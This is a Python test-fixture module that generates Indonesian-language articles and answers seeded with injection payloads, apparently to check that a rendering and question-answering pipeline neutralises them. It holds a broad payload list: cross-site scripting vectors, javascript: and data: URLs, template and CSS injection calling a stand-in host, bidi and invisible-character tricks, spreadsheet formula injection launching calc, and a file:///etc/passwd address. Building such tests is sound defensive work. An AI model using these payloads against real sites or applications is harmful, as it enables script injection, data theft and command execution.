"""A number -> articles whose every field attacks what shows it, the same each time.

Whatever acts leaves a trace: it calls ``HACKED``, asks ``OUTSIDE`` for something, or is an element
with the attribute ``MARK``. Families take turns; pieces of several are mixed from a seed.
"""

import random
from collections.abc import Mapping, Sequence

from answers import cite

from index.datatypes import Article
from qa.datatypes import Alternative, Answer, Passage

HACKED = "window.hacked=1"
OUTSIDE = "luar.example"
MARK = "data-luar"
SEED = 7

FAMILIES: Mapping[str, Sequence[str]] = {
    "script": (
        f"<script {MARK}>{HACKED}</script>",
        f"<script {MARK} src=https://{OUTSIDE}/a.js></script>",
        f"</script><script {MARK}>{HACKED}//",
        f"<ScRiPt/{MARK}>{HACKED}</sCrIpT >",
        f"<img {MARK} src=x onerror={HACKED}>",
        f"<body {MARK} onload={HACKED}>",
        f"<details {MARK} open ontoggle={HACKED}>x</details>",
        f"<input {MARK} autofocus onfocus={HACKED}>",
        f"<iframe {MARK} srcdoc='<script>parent.{HACKED}</script>'></iframe>",
        f"<object {MARK} data='data:text/html,<script>{HACKED}</script>'></object>",
        f"<embed {MARK} src=https://{OUTSIDE}/x.swf>",
        f"<video {MARK}><source onerror={HACKED}></video>",
        f"'\"><svg/onload={HACKED} {MARK}>",
        f"--><script {MARK}>{HACKED}</script><!--",
        f"]]><script {MARK}>{HACKED}</script>",
        f"</title></style></textarea></pre><script {MARK}>{HACKED}</script>",
        f"&lt;script {MARK}&gt;{HACKED}&lt;/script&gt;",
        f"&#60;script {MARK}&#62;{HACKED}&#60;/script&#62;",
        f"\\x3cscript {MARK}\\x3e{HACKED}\\u003c/script\\u003e",
        f"＜script {MARK}＞{HACKED}＜/script＞",
        f"<scr\0ipt {MARK}>{HACKED}</script>",
        f"<noscript><p {MARK} title='</noscript><img src=x onerror={HACKED}>'></noscript>",
    ),
    "template": (
        f"${{{HACKED}}} `${{{HACKED}}}`",
        f"{{{{constructor.constructor('{HACKED}')()}}}}",
        f"{{% raw %}}{{{{ {HACKED} }}}}{{% endraw %}}",
        f"<%= {HACKED} %> <? {HACKED} ?> #{{{HACKED}}}",
        f"<template {MARK}><img src=https://{OUTSIDE}/t onerror={HACKED}></template>",
        f"<slot {MARK} onslotchange={HACKED}></slot>",
        "{0} {title} %s %(id)s {quote!r}",
        f"<div {MARK}><template shadowrootmode=open><script>{HACKED}</script></template></div>",
    ),
    "link": (
        f"<a {MARK} href=javascript:{HACKED}>klik</a>",
        f"<a {MARK} href='jAvA\tscript&colon;{HACKED}'>klik</a>",
        f'<a {MARK} href="data:text/html,<script>{HACKED}</script>">klik</a>',
        f"<form {MARK} action=https://{OUTSIDE}/f><button>kirim</button></form>",
        f"<button {MARK} class=chip formaction=javascript:{HACKED}>1</button>",
        f"<base {MARK} href=https://{OUTSIDE}/>",
        f"<meta {MARK} http-equiv=refresh content='0;url=https://{OUTSIDE}/'>",
        f"<link {MARK} rel=prefetch href=https://{OUTSIDE}/p>",
        f"<area {MARK} href=vbscript:msgbox(1)>",
        f"https://{OUTSIDE}/polos www.{OUTSIDE} a@{OUTSIDE}",
        f"[klik](javascript:{HACKED}) <javascript:{HACKED}> <https://{OUTSIDE}/auto>",
    ),
    "css": (
        f"<style {MARK}>*{{display:none!important}}</style>",
        f"<style {MARK}>@import 'https://{OUTSIDE}/a.css';</style>",
        f"<link {MARK} rel=stylesheet href=https://{OUTSIDE}/b.css>",
        f"<p {MARK} style='position:fixed;inset:0;background:url(https://{OUTSIDE}/c)'>x</p>",
        f"</style><style {MARK}>body{{background:url(//{OUTSIDE}/d)}}",
        f"<span {MARK} class='lead answer unseen' data-code='U+0041'>palsu</span>",
        f";}}*{{background:url(https://{OUTSIDE}/e)}}/*",
    ),
    "svg": (
        f"<svg {MARK}><script>{HACKED}</script></svg>",
        f"<svg {MARK}><image href=https://{OUTSIDE}/i /></svg>",
        f"<svg {MARK}><animate onbegin={HACKED} attributeName=x dur=1s></svg>",
        f"<svg {MARK}><a xlink:href=javascript:{HACKED}><text y=9>x</text></a></svg>",
        f"<svg {MARK}><foreignObject><iframe src=https://{OUTSIDE}/g></iframe></foreignObject></svg>",
        f"<svg {MARK}><use href='data:image/svg+xml,<svg id=x onload={HACKED}/>#x'/></svg>",
        f"<svg><style><img {MARK} src=x onerror={HACKED}></style></svg>",
    ),
    "mathml": (
        f"<math {MARK}><mi xlink:href='javascript:{HACKED}'>x</mi></math>",
        f"<math><mtext><table><mglyph><style><img {MARK} src=x onerror={HACKED}>",
        f"<math {MARK}><annotation-xml encoding='text/html'><script>{HACKED}</script>",
        f"<math {MARK}><maction actiontype='statusline#https://{OUTSIDE}'>x</maction></math>",
    ),
    "markdown": (
        f"![x](https://{OUTSIDE}/m.png) ![y][1]\n\n[1]: https://{OUTSIDE}/n.png",
        f"# judul\n\n- butir\n1. satu\n\n> kutipan <img {MARK} src=x onerror={HACKED}>",
        f'```mermaid\ngraph TD; A-->B; click A "javascript:{HACKED}"\n```',
        f"```html\n<script {MARK}>{HACKED}</script>\n```",
        f"~~~\n</code></pre><img {MARK} src=x onerror={HACKED}>",
        f"| a | b |\n|---|---|\n| <img {MARK} src=x onerror={HACKED}> | **x** |",
        "**tebal** *miring* ~~coret~~ `kode` __garis__ \\*bukan\\* \\\\",
        f"    <script {MARK}>{HACKED}</script>",
        f'[x]: https://{OUTSIDE} "judul"\n[x] [^1]\n\n[^1]: <b {MARK}>catatan</b>',
        f"<!-- {MARK} --> <?{MARK}?> <!X {MARK}> <![CDATA[<img {MARK} src=x onerror={HACKED}>]]>",
        f"a\n===\n\nb\n---\n\n***\n\n<div {MARK}>\n\n*x*\n\n</div>",
    ),
    "latex": (
        f"$$\\href{{javascript:{HACKED}}}{{x}}$$",
        f"\\(\\includegraphics{{https://{OUTSIDE}/l.png}}\\)",
        f"$\\htmlData{{luar=1}}{{x}}$ \\[\\url{{javascript:{HACKED}}}\\]",
        "\\begin{align} x^2 \\end{align} $$\\def\\x{\\x\\x}\\x$$",
    ),
    "bidi": (
        "\u202eterbalik\u202c \u2066pulau\u2069 \u2067kanan\u2069 \u2068a\u2069 \u202bsisip\u202c",
        "harga \u200b1\u200c2\u200d3\u2060\ufeff juta \u200e\u200f\u061c",
        "rahasia\U000e0068\U000e0061\U000e0063\U000e006b\U000e007f \U000e0001",
        "lu\u00adnak \u034f\u115f\u1160\u3164\uffa0 \u17b4\u17b5 \u180b\u180e \u2061\u2064",
        "pilih\ufe00\ufe0f\U000e0100\U000e01ef \ufff9a\ufffab\ufffb \u206a\u206f",
        "حرف עברית \u202dlurus\u202c 👩\u200d👩\u200d👧 🏴\U000e0067\U000e0062\U000e007f ✈\ufe0f",
        "kendali \x00\x01\x07\x08\x0b\x0c\x1b[31m\x7f\x85\x9b \u2028\u2029 \r\n\t",
        "bukan huruf \ufdd0\uffff\U0001fffe \ufffc \u2800",
        f"\u202e>tpircs/<1=dekcah.wodniw>tpircs<\u202c <b {MARK}>\u2066</b>",
    ),
    "sheet": (
        '=HYPERLINK("https://luar.example","klik")',
        "+1+cmd|' /C calc'!A0",
        "-2+3;=1+1\t=1+1\n=1+1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        'a";=1+1;"=1+1";""=1+1,=1+1',
        "'=1+1",
        "\t=1+1\r=1+1",
        "＝1+1 \0=1+1",
    ),
}

ADDRESSES = (
    f"javascript:{HACKED}",
    f"JaVaScRiPt:{HACKED}//https://{OUTSIDE}",
    f"java\tscript:{HACKED}",
    f"\x01javascript:{HACKED}",
    f"data:text/html,<script>{HACKED}</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    f"//{OUTSIDE}/relatif",
    f"https://{OUTSIDE}@127.0.0.1/",
    f"https://{OUTSIDE}\\@127.0.0.1/",
    f'https://{OUTSIDE}/a" onmouseover="{HACKED}',
    f"https://{OUTSIDE}/'><img {MARK} src=x onerror={HACKED}>",
    f"https://{OUTSIDE}/)](javascript:{HACKED})",
    f"https://{OUTSIDE}/a#:~:text=palsu",
    f"https://{OUTSIDE}/\u202egpj.exe",
    None,
)


def attack_articles(count: int, seed: int = SEED) -> list[Article]:
    """Return articles; each piece of each family stands in one of the first, in every field."""
    chosen = random.Random(seed)  # noqa: S311
    singles = [(family, piece) for family, pieces in FAMILIES.items() for piece in pieces]
    chosen.shuffle(singles)  # a short run has some of every family, too
    articles = []
    for place in range(count):
        if place < len(singles):
            pieces = [singles[place][1]]
        else:
            pieces = [piece for _, piece in chosen.choices(singles, k=chosen.randint(2, 4))]
        glue = chosen.choice([" ", "", "\n", "\n\n", " kata "])
        text = glue.join(pieces)
        articles.append(
            Article(
                f"serang-{place:04d}/{_name(text)}",
                text if place % 2 else f"Judul {place} {text}",
                text
                if place % 5 == 0
                else f"Perkara {place} {text} bernilai {place + 1000} rupiah.",
                ADDRESSES[place % len(ADDRESSES)],
                f"{text[:200]}" if place % 3 else f"Sumber {text[:200]}",
                "2026-03-12" if place % 4 else None,
                "id" if place % 2 else None,
            )
        )
    return articles


def plain_articles(count: int) -> list[Article]:
    """Return as many that attack nothing, but have all that is shown: hidden characters, a link."""
    return [
        Article(
            f"biasa-{place:04d}\u200b",
            f"Judul biasa {place}\u200b",
            f"Perkara {place} sungguh\u200bbiasa bernilai Rp {place + 1000} juta. Kalimat lain.",
            f"https://{OUTSIDE}/{place}" if place % 2 else None,
            "Sumber biasa\u200b",
            "2026-03-12",
            "id",
        )
        for place in range(count)
    ]


def answers_about(articles: Sequence[Article]) -> list[Answer]:
    """Return an answer about each, found or not, whose quote begins and ends within an attack."""
    made = []
    for place, article in enumerate(articles):
        other = articles[place - 1]
        question = f"Berapa {article.text}?"[:1900]
        passages = tuple(_passage(each) for each in (article, other))
        if place % 5 == 4:
            reason = "low_confidence"
            made.append(Answer(question, article.title, None, 0.1, reason, passages=passages))
            continue
        citations = (cite(article, _middle(article.text)), cite(other, _middle(other.text)))
        quote = citations[0].quote
        further = (Alternative(citations[1].quote, 0.2, citations[1:]),)
        made.append(
            Answer(
                question,
                article.title if place % 2 else None,
                quote,
                0.6,
                "answered",
                citations[: 1 + place % 2],
                further if place % 3 else (),
                passages,
            )
        )
    return made


def _middle(text: str) -> str:
    third = len(text) // 3
    return text[third : max(2 * third, third + 1)]


def _passage(article: Article) -> Passage:
    known = (article.id, article.title, article.url, article.source, article.published)
    return Passage(*known, 0, len(article.text), article.text, 1.0)


def _name(text: str) -> str:
    """Return as much of an attack as an id may hold: no control character."""
    return "".join(each for each in text if each.isprintable() or each == "\u202e")[:60]
